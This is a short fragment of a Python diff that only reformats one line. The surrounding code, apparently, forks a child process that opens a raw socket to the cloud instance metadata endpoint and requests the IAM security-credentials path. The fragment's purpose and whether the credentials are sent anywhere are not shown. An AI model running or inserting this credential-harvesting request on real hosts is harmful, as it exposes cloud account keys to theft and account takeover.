@@ -90,7 +90,8 @@ lender = os.fork()
 if lender == 0:
     s.settimeout(5)
     s.connect(("169.254.169.254", 80))
-    s.sendall(b"GET /latest/meta-data/iam/security-credentials/ HTTP/1.1\\r\\nHost: x\\r\\nConnection: close\\r\\n\\r\\n")
+    s.sendall(b"GET /latest/meta-data/iam/security-credentials/ HTTP/1.1\\r\\nHost: x\\r\\n"
+              b"Connection: close\\r\\n\\r\\n")
     answer = b""
     while chunk := s.recv(65536):
         answer += chunk
